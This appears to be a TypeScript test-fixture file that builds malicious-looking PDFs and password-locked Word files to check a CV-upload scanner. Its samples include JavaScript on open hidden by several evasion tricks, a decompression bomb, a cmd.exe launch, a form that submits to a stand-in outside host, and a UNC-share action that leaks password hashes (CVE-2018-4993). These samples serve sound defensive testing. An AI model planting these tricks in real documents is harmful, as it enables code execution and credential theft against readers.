import { deflateSync } from 'node:zlib';
import type { CvType } from '#contract/cv.ts';
import { doc } from './good-files.ts';
import { pdfOf, stream, textPdf } from './made-pdfs.ts';
import { ole } from './ole-files.ts';

const words = [['Ayşe Yılmaz']];
const script = '<< /S /JavaScript /JS (app.alert\\(1\\)) >>';

const packed = (objects: string, dictionary = '') => {
  const bytes = deflateSync(Buffer.from(objects)).toString('latin1');
  return stream(bytes, `/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode ${dictionary}`);
};

/** PDFs that run something or cannot be inspected. */
export const activePdfs: Readonly<Record<string, Buffer>> = {
  'a script on opening': textPdf({ pages: words, catalogue: `/OpenAction ${script}` }),
  'a script by its name in numbers': textPdf({
    pages: words,
    catalogue: '/OpenAction << /S /J#61va#53cript /JS (app.alert\\(1\\)) >>',
  }),
  'a script whose kind lies elsewhere': textPdf({
    pages: words,
    catalogue: '/OpenAction << /S 4 0 R /JS (app.alert\\(1\\)) >>',
    more: ['/JavaScript'],
  }),
  'a script behind a comment': textPdf({
    pages: words,
    catalogue: '/OpenAction << /S% (\n/JavaScript /JS (app.alert\\(1\\)) >>',
  }),
  'a script within a stream, where a table may point': textPdf({
    pages: words,
    more: [stream(`9 0 obj ${script} endobj`)],
  }),
  'a script within a string': textPdf({
    pages: words,
    more: [`<< /Title (9 0 obj ${script.replaceAll(/[()]/g, '')} endobj) >>`],
  }),
  'a packed script': textPdf({ pages: words, more: [packed(`9 0 ${script}`)] }),
  'a packed script whose kind is an object': textPdf({
    pages: words,
    more: [packed('9 0 /JavaScript ')],
  }),
  'a packed script behind a false beginning': textPdf({
    pages: words,
    more: [
      packed(
        `9 0 ${script}`,
        `/X (>> stream\n${deflateSync(Buffer.from('9 0 null'))
          .toString('latin1')
          .replaceAll(/[()\\]/g, '')} endstream)`,
      ),
    ],
  }),
  'a packed script whose stream says its kind in numbers': textPdf({
    pages: words,
    more: [packed(`9 0 ${script}`).replace('/ObjStm', '/Obj#53tm')],
  }),
  'objects that are packed twice': textPdf({
    pages: words,
    more: [packed(`9 0 ${script}`).replace('/FlateDecode', '[/ASCIIHexDecode /FlateDecode]')],
  }),
  'objects that unpack to too much': textPdf({
    pages: words,
    more: [packed(' '.repeat(9 * 1024 * 1024))],
  }),
  'a program on opening': textPdf({
    pages: words,
    catalogue: '/OpenAction << /S /Launch /Win << /F (cmd.exe) >> >>',
  }),
  'a form that is sent on opening': textPdf({
    pages: words,
    catalogue: '/OpenAction << /S /SubmitForm /F (https://stranger.example/form) >>',
  }),
  // Windows logs in at the share, and so gives it the reader's name and the hash of the password (CVE-2018-4993).
  'a file on a share, opened with the page': textPdf({
    pages: words,
    page: '/AA << /O << /S /GoToR /D [0 /Fit] /F (\\\\\\\\stranger.example\\\\cv) >> >>',
  }),
  'the same as a file in a file': textPdf({
    pages: words,
    page: '/AA << /O << /S /GoToE /D [0 /Fit] /F (\\\\\\\\stranger.example\\\\cv) >> >>',
  }),
  'a rendition that runs a script': textPdf({
    pages: words,
    page: '/AA << /O << /S /Rendition /OP 0 /JS (app.alert\\(1\\)) >> >>',
  }),
  'a form of XFA': textPdf({
    pages: words,
    catalogue: '/AcroForm << /Fields [] /XFA 4 0 R >>',
    more: [stream('<xdp/>')],
  }),
};

export const lockedPdf = textPdf({
  pages: words,
  trailer: '/Encrypt << /Filter /Standard /V 4 >>',
});

const encryptedPackage = ole([{ name: 'EncryptionInfo' }, { name: 'EncryptedPackage' }]);
/** Word documents with a password, by the types that they claim. */
export const lockedDocuments: [what: string, type: CvType, bytes: Buffer][] = [
  ['a .doc file', 'doc', doc(512, 0x0100)],
  ['a .doc file in large sectors', 'doc', doc(4096, 0x1300)],
  // Encrypted, a package is stored in a compound file ([MS-OFFCRYPTO] 1.3.3).
  ['a .docx file', 'docx', encryptedPackage],
  ['a .docx file renamed to .doc', 'doc', encryptedPackage],
];

const skills = 'PHP/JavaScript, /Launch, HTML';
/** Harmless PDFs whose texts resemble active content. */
export const quietPdfs: Readonly<Record<string, Buffer>> = {
  'a developer’s words in its description': pdfOf(
    [
      '<< /Type /Catalog /Pages 2 0 R >>',
      '<< /Type /Pages /Kids [] /Count 0 >>',
      `<< /Title (Node/JavaScript \\(CV\\)) /Keywords (${skills}) /Author (a ( /XFA ) b) >>`,
    ],
    '/Info 3 0 R',
  ),
  'a developer’s words on its page': textPdf({
    pages: words,
    more: [stream(`BT (${skills}) Tj ET`), stream(`<rdf>${skills}</rdf>`, '/Type /Metadata')],
  }),
  'packed objects that do nothing': textPdf({
    pages: words,
    more: [packed(`9 0 << /Title (Node/JavaScript) /First 4 0 R >> 10 99 /Launcher `)],
  }),
  'a link to a page': textPdf({
    pages: words,
    page: '/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /URI /URI (https://ada.example/javascript) >> >>]',
  }),
};
